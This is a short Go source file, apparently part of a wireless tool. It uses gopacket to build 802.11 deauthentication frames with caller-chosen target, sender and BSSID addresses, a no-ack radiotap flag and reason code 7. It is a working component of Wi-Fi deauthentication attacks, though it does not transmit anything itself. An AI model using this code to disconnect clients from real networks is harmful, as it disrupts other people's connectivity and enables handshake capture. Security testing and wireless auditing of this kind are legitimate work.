package deauth

import (
	"fmt"
	"net"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
)

// reasonCode is the 802.11 deauthentication reason, per spec.md §4.7:
// class 3 frame received from nonassociated station.
const reasonCode = 7

// serializeDeauth builds a single Deauthentication management frame
// from sender to target, attributed to bssid.
func serializeDeauth(target, sender, bssid net.HardwareAddr, seq uint16) ([]byte, error) {
	radiotap := &layers.RadioTap{
		Present: layers.RadioTapPresentRate | layers.RadioTapPresentFlags,
		Rate:    5,
		Flags:   0x0008, // no-ack
	}

	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtDeauthentication,
		Address1:       target,
		Address2:       sender,
		Address3:       bssid,
		SequenceNumber: seq,
	}

	payload := &layers.Dot11MgmtDeauthentication{Reason: layers.Dot11Reason(reasonCode)}

	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
	if err := gopacket.SerializeLayers(buf, opts, radiotap, dot11, payload); err != nil {
		return nil, fmt.Errorf("serialize deauth: %w", err)
	}
	return buf.Bytes(), nil
}
